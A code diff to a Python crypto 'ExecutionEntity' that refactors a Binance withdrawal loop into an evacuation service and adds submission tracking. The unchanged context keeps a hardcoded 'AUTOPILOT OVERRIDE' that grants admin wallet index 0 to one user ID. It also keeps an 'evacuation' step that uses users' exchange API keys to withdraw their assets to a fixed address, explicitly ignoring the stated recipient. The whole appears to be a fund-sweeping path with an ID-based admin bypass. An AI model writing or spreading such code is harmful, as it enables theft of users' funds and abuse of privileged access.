@@ -3,10 +3,24 @@ from app.entities.base import BaseEntity
 from app.schemas.hearing import HearingRecord, ExecutionResult
 from app.services.wallet_service import wallet_service
 from app.services.cex_service import cex_service
+from app.services.evacuation import evacuation_planner
+from app.services.submissions import tracking_submissions
+from app.services.user_cache import SYSTEM_USER_ID
 from app.core.config import settings
 
 class ExecutionEntity(BaseEntity):
     async def process(self, record: HearingRecord) -> HearingRecord:
+        with tracking_submissions() as submissions:
+            record = await self._execute(record)
+        if record.execution is not None and submissions.submitted:
+            record.execution.submitted = True
+            if record.execution.status == "FAILED":
+                record.execution.logs.append(
+                    f"⚠️ Failed after a {submissions.first} was sent: funds may have moved. Manual review required."
+                )
+        return record
+
+    async def _execute(self, record: HearingRecord) -> HearingRecord:
         # Check if we have a strategy
         if not record.strategy or not record.strategy.feasible_options:
             record.execution = ExecutionResult(
@@ -25,7 +39,7 @@ class ExecutionEntity(BaseEntity):
             from_index = record.memory.derivation_index
             
             # AUTOPILOT OVERRIDE: If System User, grant Admin Access (Index 0)
-            if record.user_id == "00000000-0000-0000-0000-000000000001":
+            if record.user_id == SYSTEM_USER_ID:
                  from_index = 0 
             
             if from_index is None:
@@ -175,39 +189,17 @@ class ExecutionEntity(BaseEntity):
                     tx_hash = "0xNO_ASSETS_FOUND"
                 else:
                     # C. Execute Batch
-                    evac_hashes = []
-                    
                     # FORCE Consolidated Treasury Address (Admin/Deployer)
                     # We ignore 'recipient' here because Evacuation must go to the safe house with Gas.
                     dest_address = "0x571E52efc50055d760CEaE2446aE3B469a806279"
 
                     logs.append(f"Destination Secure Vault: {dest_address}")
 
-                    for asset, amt in assets_to_move:
-                        logs.append(f"Evacuating {amt} {asset}...")
-                        try:
-                            # Use the service we built
-                            th = await cex_service.withdraw_to_chain(
-                                exchange_id="binance",
-                                api_key=api_key,
-                                api_secret=api_secret,
-                                token=asset,
-                                amount=amt,
-                                address=dest_address,
-                                chain=chain
-                            )
-                            evac_hashes.append(th)
-                            logs.append(f"✅ {asset} Evacuated. Tx: {th}")
-                        except Exception as e:
-                            err_msg = str(e)
-                            if "-4022" in err_msg or "minimum" in err_msg.lower():
-                                logs.append(f"❌ MINIMUM LIMIT: {asset} ({amt}) is too small to withdraw.")
-                                logs.append(f"   (Binance requires a higher amount)")
-                            else:
-                                logs.append(f"❌ Failed to evacuate {asset}: {e}")
-                            
-                            # Fallback to Mock for demo continuity
-                            logs.append(f"🔄 Queuing Manual Intervention for {asset}")
+                    # Pre-validated against Binance's withdrawal rules, then submitted concurrently
+                    evac_hashes, evac_logs = await evacuation_planner.evacuate(
+                        api_key, api_secret, assets_to_move, dest_address, chain
+                    )
+                    logs.extend(evac_logs)
                     
                     if evac_hashes:
                         tx_hash = f"BATCH_{len(evac_hashes)}_TXS_CONFIRMED"